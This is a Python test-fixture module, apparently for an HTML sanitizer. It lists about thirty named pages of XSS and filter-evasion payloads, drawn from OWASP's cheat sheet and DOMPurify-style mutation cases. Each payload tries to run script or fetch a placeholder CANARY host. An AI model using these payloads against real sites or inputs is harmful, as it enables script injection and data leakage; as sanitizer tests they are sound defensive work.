"""Pages that try to run, to fetch, or to get out; CANARY stands for the address that must not be asked.

After OWASP's XSS filter evasion cheat sheet, the cures53 mutation cases of DOMPurify's test suite (by idea), and what
HTML says of automatic fetches and navigations. A script that runs asks CANARY/ran and marks the page above.
"""

from __future__ import annotations

RUN = "fetch('CANARY/ran');try{parent.document.title='taken'}catch(e){};void(0)"

ATTEMPTS = {
    "script": f"<p>正文</p><script>{RUN}</script>",
    "script from elsewhere": "<script src=CANARY/s.js></script><script type=module src=CANARY/m.js></script>",
    "onerror": f'<img src=x onerror="{RUN}"><img src=CANARY/i.png>',
    "handlers": f'<body onload="{RUN}" onpageshow="{RUN}"><input autofocus onfocus="{RUN}">'
    f'<details open ontoggle="{RUN}"><marquee onstart="{RUN}">甲</marquee>',
    "meta refresh": "<meta http-equiv=refresh content='0;url=CANARY/refresh'>",
    "meta refresh to a script": f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "meta policy": '<meta http-equiv=Content-Security-Policy content="default-src *"><img src=CANARY/p.png>',
    "svg script": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script>'
    "<image href=CANARY/svg.png /><use href=CANARY/u.svg#a /><foreignObject><img src=CANARY/fo.png></foreignObject>"
    "<animate attributeName=href values=javascript:alert(1) /></svg>",
    "css": "<style>@import 'CANARY/a.css';@import url(CANARY/b.css);body{background:url(CANARY/c.png)}"
    "@font-face{font-family:x;src:url(CANARY/f.woff)}*{font-family:x;cursor:url(CANARY/k.cur),auto}"
    "li{list-style-image:image-set('CANARY/d.png' 1x)}</style><p style=\"background:u\\72l(CANARY/e.png)\">甲"
    '<p style="background:url(/**/CANARY/g.png)"><ul><li>甲</ul>',
    "style sheet": "<link rel=stylesheet href=CANARY/s.css><?xml-stylesheet href=CANARY/x.css?>",
    "style that ends early": f"<style>a{{b:'</style><img src=CANARY/e.png onerror=\"{RUN}\">'}}</style>",
    "form": f"<form id=f action=CANARY/form method=post><input name=a value=b><button autofocus>去</button></form>"
    f"<script>document.getElementById('f').submit()</script><input form=f type=image src=CANARY/in.png>"
    f'<form action="javascript:{RUN}"><button formaction=CANARY/fa>去</button></form>',
    "base": "<base href=CANARY/ target=_top><img src=base.png><a href=link>去</a>",
    "hints": "<link rel=prefetch href=CANARY/1><link rel=preload as=image href=CANARY/2>"
    "<link rel=prerender href=CANARY/3><link rel=preconnect href=CANARY>"
    "<link rel=modulepreload href=CANARY/4><link rel=icon href=CANARY/5><link rel=manifest href=CANARY/6>"
    "<link rel=dns-prefetch href=CANARY/7><link rel='alternate stylesheet' href=CANARY/8>"
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["CANARY/9"]}]}</script>',
    "links": f'<a id=click href="javascript:{RUN}">去</a><a href=" java&#10;script:{RUN}">去</a>'
    f'<a href="data:text/html,<script>{RUN}</script>">去</a><a href=CANARY/link target=_top>去</a>'
    "<a href=CANARY/blank target=_blank rel=opener>去</a><a href=CANARY/self ping=CANARY/ping>去</a>"
    "<a href=CANARY/download download>去</a><map name=m><area href=CANARY/area shape=default></map>",
    "frames": f'<iframe srcdoc="<script>{RUN}</script><img src=CANARY/sd.png>"></iframe><iframe src=CANARY/if></iframe>'
    f'<iframe src="javascript:{RUN}"></iframe><iframe src="data:text/html,<img src=CANARY/da.png>"></iframe>'
    "<fencedframe src=CANARY/ff></fencedframe>",
    "frameset": "<frameset cols=50%><frame src=CANARY/frame></frameset>",
    "objects": "<object data=CANARY/o.swf><param name=src value=CANARY/pa><img src=CANARY/fb.png></object>"
    "<embed src=CANARY/e.pdf><applet code=CANARY/a.class></applet>",
    "media": "<video src=CANARY/v.mp4 poster=CANARY/p.png autoplay><track src=CANARY/t.vtt default></video>"
    "<audio src=CANARY/a.mp3 autoplay></audio>"
    "<picture><source srcset=CANARY/s.webp><img src=CANARY/j.png></picture>"
    "<img srcset='CANARY/1x.png 1x, CANARY/2x.png 2x' sizes=1px><input type=image src=CANARY/i.png>",
    "old attributes": "<body background=CANARY/bg.png><table background=CANARY/t.png>"
    "<tr><td background=CANARY/td.png>甲</table><img lowsrc=CANARY/low.png dynsrc=CANARY/dyn.avi longdesc=CANARY/long>",
    "noscript": f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>"
    "<noscript><img src=CANARY/ns.png></noscript>",
    "mutation math": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "mutation svg": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mutation form": f"<form><math><mtext></form><form><mglyph><svg><mtext><style>"
    f'<path id="</style><img src=1 onerror={RUN}>">',
    "mutation template": "<template><s><template shadowrootmode=open>"
    f'<img src=x onerror="{RUN}"></template></template>',
    "mutation comment": f'<!--><img src=x onerror="{RUN}">--><!-- --!><img src=x onerror="{RUN}">',
    "mutation raw text": f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp><textarea><p title="</textarea><img '
    f'src=x onerror={RUN}>"></textarea><plaintext><img src=x onerror={RUN}>',
    "mutation cdata": f"<svg><![CDATA[><img src=x onerror={RUN}>]]><math><annotation-xml encoding=text/html><p><img "
    f"src=x onerror={RUN}>",
    "shadow root": f'<div><template shadowrootmode=open><img src=CANARY/sr.png onerror="{RUN}"></template></div>',
    "entities in attributes": f"<a href='&#106;avascript:{RUN}' onclick='{RUN}' onmouseover=\"{RUN}\">去</a>"
    f"<p title='\"><img src=x onerror={RUN}>'>甲</p><font color='\"><script>{RUN}</script>'>乙</font>",
    "other namespaces": f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script><svg:img src=CANARY/n.png />'
    "<image src=CANARY/image.png><isindex action=CANARY/isindex type=image src=CANARY/is.png>"
    "<custom-thing style='background:url(CANARY/custom.png)'>甲</custom-thing>",
}
"""Name of the attempt → the page."""
